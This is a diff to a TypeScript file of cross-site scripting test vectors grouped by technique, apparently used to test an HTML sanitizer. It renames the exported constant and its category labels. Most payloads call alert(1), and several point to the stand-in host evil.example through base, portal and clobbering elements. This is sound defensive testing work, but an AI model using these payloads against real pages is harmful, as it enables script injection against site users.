@@ -1,8 +1,8 @@
 /**
- * What attackers have put into posts that people write, by the way that it works (after the cheat sheets of OWASP,
- * PortSwigger and Cure53). Every one would call `alert` or reach out to evil.example in a page that shows it as it is.
+ * Known attacks through HTML that users write, by technique (after the cheat sheets of OWASP, PortSwigger and Cure53). Each would call
+ * `alert` or contact evil.example in a page that shows it unsanitised.
  */
-export const vectors: Record<string, string[]> = {
+export const xssVectors: Record<string, string[]> = {
   'event handlers': [
     '<img src=x onerror=alert(1)>',
     '<img src="/media/cloth-0123456789ab/320.webp" onload="alert(1)">',
@@ -42,7 +42,7 @@ export const vectors: Record<string, string[]> = {
     '"><script>alert(1)</script>',
     '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>',
   ],
-  'addresses that run': [
+  'URLs that run code': [
     '<a href="javascript:alert(1)">x</a>',
     '<a href="JaVaScRiPt:alert(1)">x</a>',
     '<a href=" javascript:alert(1)">x</a>',
@@ -114,7 +114,7 @@ export const vectors: Record<string, string[]> = {
     '<portal src="https://evil.example">',
     '<dialog open><p>Your session has ended</p></dialog>',
   ],
-  'what rules the page': [
+  'elements that control the page': [
     '<base href="https://evil.example/">',
     '<base href="javascript:/a/-alert(1)///////">',
     '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
@@ -141,7 +141,7 @@ export const vectors: Record<string, string[]> = {
     '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
     '<svg><title><img src=x onerror=alert(1)></title></svg>',
   ],
-  'what changes when it is read again': [
+  'mutation on reparsing': [
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
     '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
     '<template><img src=x onerror=alert(1)></template>',
@@ -164,7 +164,7 @@ export const vectors: Record<string, string[]> = {
     `<img alt='"><img src=x onerror=alert(1)>' src="/media/cloth-0123456789ab/320.webp">`,
     '<option><style></option></select><img src=x onerror=alert(1)></style>',
   ],
-  'unfinished and broken': [
+  'malformed HTML': [
     '<img src=x onerror=alert(1)',
     '<img src="x" onerror="alert(1)',
     '<script>alert(1)',
@@ -194,7 +194,7 @@ export const vectors: Record<string, string[]> = {
     '<![CDATA[><img src=x onerror=alert(1)>]]>',
     '<comment><img src="</comment><img src=x onerror=alert(1)>">',
   ],
-  'names that scripts look for': [
+  'DOM clobbering': [
     '<a id="api" name="api" href="https://evil.example">x</a>',
     '<img name="getElementById" src="/media/cloth-0123456789ab/320.webp">',
     '<form name="body"><input name="attributes"></form>',
